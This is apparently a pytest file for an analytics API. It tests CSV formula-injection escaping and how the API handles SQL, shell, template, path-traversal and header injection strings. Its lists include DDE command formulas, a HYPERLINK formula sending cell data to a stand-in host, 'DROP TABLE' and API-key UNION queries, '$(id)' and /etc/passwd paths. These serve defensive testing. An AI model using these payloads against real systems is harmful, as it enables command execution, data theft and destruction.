"""Text that means something to others: to spreadsheets, to databases, to browsers."""

import csv
import io
import json
from collections.abc import Iterator
from random import Random
from typing import Any
from urllib.parse import quote

import pytest

from events.models import Entity
from tests.conftest import Api, event
from tests.test_openapi import OPERATIONS

JANUARY = {"start_date": "2025-01-01", "end_date": "2025-01-31"}
SIGNS = ("=", "+", "-", "@", "\t", "\r")
TEXTS = ("id", "model", "provider", "entity_type", "entity_id", "session_id")
TEXTS += ("error_type", "error_code")
FORMULAS = [
    *(f"{sign}{rest}" for sign in SIGNS for rest in ("1+1", "cmd|' /C calc'!A0", 'A",B', "1\n=2")),
    '=HYPERLINK("http://x.example/?"&A1,"a")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r\n=1",
    "'=1",
    '"=1',
    " =1",
    ";=1",
]
GROUPINGS = ["entity", "entity_type", "provider", "model", "tags.=1", "tags.@x", "entity,model,day"]


def cells(api: Api, path: str, **params: Any) -> list[list[str]]:
    """The header and lines of a table."""
    return list(csv.reader(io.StringIO(api.csv(path, **params), newline=""), strict=True))


def tables(api: Api) -> Iterator[list[list[str]]]:
    """Every table that the API has, grouped by everything that is text."""
    yield cells(api, "/v1/events")
    yield cells(api, "/v1/entities")
    for name in ("costs/timeseries", "models", "entities/top", "sessions", "anomalies"):
        yield cells(api, f"/v1/analytics/{name}", **JANUARY)
    for grouping in GROUPINGS:
        yield cells(api, "/v1/analytics/costs", **JANUARY, group_by=grouping)


def test_no_cell_of_a_table_runs_as_a_formula(api, figures):
    for number, text in enumerate(FORMULAS):
        tags = {"=1": text, "@x": text, text: text}
        api.send(event(**dict.fromkeys(TEXTS, text), tags=tags, latency_ms=number))
    Entity.objects.filter(account=api.account).update(name=FORMULAS[0])
    seen, unsafe, texts = 0, 0, set()
    for header, *lines in tables(api):
        for cell in [*header, *(cell for line in lines for cell in line)]:
            seen += 1
            unsafe += cell.startswith(SIGNS)
            texts.add(cell)
    for text in FORMULAS:
        assert (f"'{text}" if text.startswith(SIGNS) else text) in texts
    figures.show(f"of {seen} cells unsafe", unsafe, "0")
    assert unsafe == 0


def test_negative_numbers_stay_numbers(api):
    api.send(event(cost_usd="2.5"), event(cost_usd="1", timestamp="2025-02-01T00:00:00Z"))
    asked = {"period1_start": "2025-02-01", "period1_end": "2025-02-28"}
    asked |= {"period2_start": "2025-01-01", "period2_end": "2025-01-31"}
    *_, change, percent = cells(api, "/v1/analytics/compare", **asked)
    assert change == ["change", "", "", "-1.50", "0"]
    assert percent == ["change_percent", "", "", "-60.0", "0.0"]


# --- injections ------------------------------------------------------------------------------

SEEDS = [
    *("' OR '1'='1", "'; DROP TABLE events_event; --", '" OR ""="', "1; SELECT pg_sleep(1)--"),
    *(
        "') UNION SELECT digest FROM apikeys_apikey--",
        "%' AND 1=1--",
        "\\'; --",
        "$$;--",
        "%s",
        "%",
    ),
    *("%(account_id)s", "{account_id}", "{0.__class__}", "${7*7}", "{{7*7}}", "%n%n%n", "%%", "$1"),
    *("\0", "\0' OR 1=1", "\ud800", "\u202e", "\ufeff", "\r\nSet-Cookie: a=b", "\x1b[31m", "\x7f"),
    *("../../etc/passwd", "..%2f..%2f", "file:///etc/passwd", "|id", "`id`", "$(id)", "& ping x"),
    *("<script>", "<!--#exec cmd='id'-->", "<?xml version='1.0'?>", "*)(uid=*))(|(uid=*"),
    *(
        "9" * 400,
        "-1",
        "1e309",
        "NaN",
        "Infinity",
        "0x10",
        "٣",
        "true",
        "null",
        "[]",
        "{}",
        "a:b,c",
    ),
    *(",", ":", "\\", "\\,", "a:\\", "tags.", "tags.'", "day,hour", "\n", " ", "", "😀" * 50, "İ"),
    *("2025-01-01' --", "0000-00-00", "2025-02-30", "+002025-01-01", "2025-01-01T00:00:00Z\0"),
    *("Europe/Berlin\0", "../UTC", "UTC' --", "localtime", "a" * 8000),
]
GOOD = {
    "start_date": "2025-01-01",
    "end_date": "2025-01-31",
    "period1_start": "2025-01-01",
    "period1_end": "2025-01-31",
    "period2_start": "2025-01-01",
    "period2_end": "2025-01-31",
}
FREE = ("entity_type", "entity_id", "model", "provider", "session_id", "type")


def injections(count: int) -> Iterator[str]:
    """The seeds, then seeds put together, cut and turned about."""
    yield from SEEDS[:count]
    random = Random("injections")
    for _ in range(count - len(SEEDS)):
        one, two = random.choice(SEEDS)[:300], random.choice(SEEDS)[:300]
        at = random.randint(0, len(one))
        yield random.choice([one + two, one[:at] + two + one[at:], one[:at] + two, one[::-1] + two])


def addresses() -> list[tuple[str, list[str]]]:
    """Every GET, with its query parameters."""
    return [
        (name.removeprefix("GET "), [one["name"] for one in about.get("parameters", [])
                                     if one["in"] == "query"])
        for name, about in OPERATIONS.items()
        if name.startswith("GET ")
    ]  # fmt: skip


def requests(strings: list[str]) -> Iterator[tuple[str, dict[str, str]]]:
    """Questions with a string in one parameter, and with strings in all that take any text.

    Around and around, until every string was sent.
    """
    queue = iter(strings)
    while True:
        for path, names in addresses():
            good = {name: GOOD[name] for name in names if name in GOOD}
            try:
                if "{event_id}" in path:
                    yield path.replace("{event_id}", quote(clean(next(queue)) or "x", safe="")), {}
                yield path, good | {name: clean(next(queue)) for name in names if name in FREE}
                for name in names:
                    yield path, good | {name: clean(next(queue))}
            except StopIteration:
                return


def clean(text: str) -> str:
    """As an address can hold it."""
    return text.encode(errors="replace").decode()


@pytest.mark.parametrize("count", [400, pytest.param(50_000, marks=pytest.mark.soak)])
def test_injections_in_every_parameter_are_no_more_than_text(api, count, figures):
    api.send(event(id="only", entity_type="customer", entity_id="acme", session_id="s"))
    strings = list(injections(count))
    statuses: dict[int, int] = {}
    for path, asked in requests(strings):
        answer = api.get(path, **asked)
        statuses[answer.status_code] = statuses.get(answer.status_code, 0) + 1
        assert answer.status_code in (200, 400, 404, 501), (path, asked, answer.content)
        assert b"only" not in b"".join(answer) or not set(asked) & set(FREE), (path, asked)
    figures.show(
        f"of {sum(statuses.values())} injections 5xx",
        sum(statuses.get(s, 0) for s in range(500, 600) if s != 501),
        "0",
    )
    assert api.read("/v1/events")["pagination"]["total"] == 1


def test_injections_in_events_come_back_as_they_were(api, figures):
    strings = [text[:200] for text in dict.fromkeys(injections(5000)) if is_text(text)]
    sent = [
        event(
            id=f"{number} {text}"[:200], **dict.fromkeys(TEXTS[1:], text), tags={text[:100]: text}
        )
        for number, text in enumerate(strings)
    ]
    for start in range(0, len(sent), 1000):
        api.send(*sent[start : start + 1000])
    for row in sent[:: len(sent) // 50]:
        assert api.read(f"/v1/events/{quote(row['id'], safe='')}").items() >= {
            (name, row[name]) for name in TEXTS
        }
    costs = api.read("/v1/analytics/costs", **JANUARY, group_by="entity")
    stored = {(row["entity_type"], row["entity_id"]) for row in costs["data"]}
    figures.show(
        f"of {len(strings)} texts lost or changed", len({(t, t) for t in strings} - stored), "0"
    )
    assert stored == {(text, text) for text in strings}


def is_text(text: str) -> bool:
    """Whether an event may hold it."""
    return bool(text) and "\0" not in text and text.isprintable() | (text == clean(text))


def test_injections_in_headers(api):
    bad = {"Idempotency-Key": 400, "Content-Encoding": 415, "X-Request-ID": 201}
    for name, expected in bad.items():
        for text in ("' OR 1=1 --", "a" * 201, "\x00", "<script>", "%s%n"):
            headers = {"Authorization": f"Bearer {api.key}", name: text}
            answer = api.http.post(
                "/v1/events", json.dumps(event()), "application/json", headers=headers
            )
            assert answer.status_code in (expected, 200, 201), (name, text, answer.content)
            assert "script" not in answer["X-Request-ID"]
